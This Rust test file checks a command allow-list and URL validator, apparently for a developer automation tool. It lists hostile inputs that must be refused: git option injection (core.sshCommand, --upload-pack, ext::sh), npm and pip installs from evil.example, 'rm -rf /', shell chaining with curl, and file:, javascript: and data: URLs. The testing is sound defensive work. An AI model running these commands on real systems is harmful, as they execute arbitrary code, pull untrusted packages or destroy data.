//! The allow-list and its argument rules, with hostile arguments; the URL opener.

use papayu_integrations::AutomationError;
use papayu_integrations::automation::{AllowList, check, check_url, open_url, run, split_line};

use crate::support::{project, write};

fn checked(line: &str) -> Result<String, AutomationError> {
    let p = project();
    write(
        &p.root,
        "package.json",
        r#"{"scripts": {"lint": "eslint .", "build": "vite build"}}"#,
    );
    let words = split_line(line)?;
    check(&words, &AllowList::builtin(), &p.root).map(|c| c.display())
}

#[test]
fn allowed_commands_pass() {
    for line in [
        "git status",
        "git diff --stat",
        "git log --oneline -n 5",
        "git add src/main.rs",
        "git commit -m \"fix the parser\"",
        "git checkout -b fix/parser",
        "git push -u origin main",
        "npm ci",
        "npm install -D left-pad@1.3.0",
        "npm install @types/node",
        "npm run lint",
        "cargo test -p papayu-fs",
        "cargo clippy --all-targets -- -D warnings",
        "cargo fmt --all --check",
        "python3 -m pytest -q tests/test_api.py",
        "pip install requests==2.32.0",
    ] {
        assert!(checked(line).is_ok(), "{line}: {:?}", checked(line));
    }
    assert_eq!(
        checked("git commit -m 'two words'").expect("ok"),
        "git commit -m \"two words\""
    );
}

#[test]
fn hostile_commands_are_refused() {
    for line in [
        "git -c core.sshCommand=touch_pwned fetch",
        "git -c core.sshCommand='touch /tmp/pwned' fetch origin",
        "git fetch --upload-pack=touch_pwned origin",
        "git fetch --upload-pack touch_pwned origin",
        "git pull -u touch_pwned",
        "git push --receive-pack=x origin",
        "git push ext::sh main",
        "git diff --output=/etc/passwd",
        "git diff --ext-diff",
        "git add /etc/passwd",
        "git add ../outside",
        "git checkout -- ../../etc",
        "npm run deploy",
        "npm run lint -- --fix",
        "npm install https://evil.example/pkg.tgz",
        "npm install git+ssh://git@github.com/x/y",
        "npm install file:../pkg",
        "npm install --registry=https://evil.example",
        "cargo build --config build.rustc=evil",
        "cargo test -Zunstable-options",
        "pip install -r requirements.txt",
        "pip install --index-url https://evil.example/simple x",
        "pip install git+https://evil.example/x",
        "python3 -c print(1)",
        "rm -rf /",
        "bash -c ls",
        "git status; rm -rf /",
        "git status && curl evil",
        "git log $(whoami)",
        "git log `whoami`",
        "cargo test > out.txt",
        "git status \"unclosed",
    ] {
        let err = checked(line).expect_err(line);
        assert!(
            matches!(
                err,
                AutomationError::Refused { .. } | AutomationError::Parse { .. }
            ),
            "{line}: {err}"
        );
    }
    let err = checked("npm run deploy").expect_err("unknown script");
    assert!(err.to_string().contains("lint"), "lists the scripts: {err}");
}

#[test]
fn the_allow_list_narrows_and_empties() {
    let p = project();
    let narrow = AllowList::parse("git status, cargo test").expect("known entries");
    assert_eq!(narrow.names(), vec!["cargo test", "git status"]);
    let words = split_line("git push").expect("words");
    let err = check(&words, &narrow, &p.root).expect_err("not allowed");
    assert!(err.to_string().contains("configured allow-list"), "{err}");
    let none = AllowList::parse("").expect("empty");
    assert!(check(&split_line("git status").expect("w"), &none, &p.root).is_err());
    assert!(matches!(
        AllowList::parse("git status, rm"),
        Err(AutomationError::AllowList { .. })
    ));
}

#[test]
fn urls_only_http_and_https() {
    assert!(check_url("https://lucide.dev/icons").is_ok());
    assert!(check_url("http://localhost:8080/").is_ok());
    for bad in [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,<script>",
        "ftp://example.com/x",
        "https://user:pass@example.com/",
        "not a url",
    ] {
        assert!(
            matches!(check_url(bad), Err(AutomationError::BadUrl { .. })),
            "{bad}"
        );
        assert!(open_url(bad, Some("true")).is_err(), "{bad} is not opened");
    }
    assert!(open_url("https://example.com/", Some("true")).is_ok());
    assert!(matches!(
        open_url("https://example.com/", Some("false")),
        Err(AutomationError::Opener { .. })
    ));
}

#[cfg(unix)]
#[test]
fn runs_in_the_root_with_a_timeout_and_logs_output() {
    let p = project();
    let git = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(&p.root)
        .status()
        .expect("git is installed");
    assert!(git.success());
    let cmd = check(
        &split_line("git status --short").expect("w"),
        &AllowList::builtin(),
        &p.root,
    )
    .expect("allowed");
    write(&p.root, "new.txt", "x");
    let done = run(&cmd, &p.root, std::time::Duration::from_secs(30)).expect("ran");
    assert!(done.success(), "{done:?}");
    assert!(done.stdout.contains("new.txt"), "ran in the root: {done:?}");
    let log = papayu_integrations::automation::log_text(&p.root).expect("logged");
    assert!(log.contains("$ git status --short (exit 0)"));
    assert!(log.contains("new.txt"));
}
